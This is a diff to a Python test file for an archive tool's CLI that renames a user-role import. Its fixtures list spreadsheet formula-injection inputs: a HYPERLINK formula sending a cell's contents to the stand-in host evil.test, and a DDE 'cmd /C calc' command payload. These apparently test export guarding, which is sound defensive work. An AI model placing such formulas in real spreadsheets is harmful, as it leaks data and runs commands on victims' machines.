@@ -18,7 +18,7 @@ from archive.catalog.authority import read_csv
 from archive.cli import main
 from archive.cli.reference import contexts
 from archive.printable import guarded, unguarded
-from archive.users import Role
+from archive.users import UserRole
 
 FORMULAS = (
     '=HYPERLINK("http://evil.test?"&A1,"Lire la suite")', "=cmd|' /C calc'!A1", "+33 1 02 03 04 05", "-2+3",
@@ -60,7 +60,7 @@ def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
     for command in (["ingest", str(where / "in")], ["authority", "import", str(taught)], decided, closed):
         done = CliRunner().invoke(main, ["--archive", str(where / "archive"), *command])
         assert done.exit_code == 0, done.output
-    users.add(where / "archive", "=1+1", Role.READER, "une phrase assez longue")
+    users.add(where / "archive", "=1+1", UserRole.READER, "une phrase assez longue")
     return where / "archive"
 
 
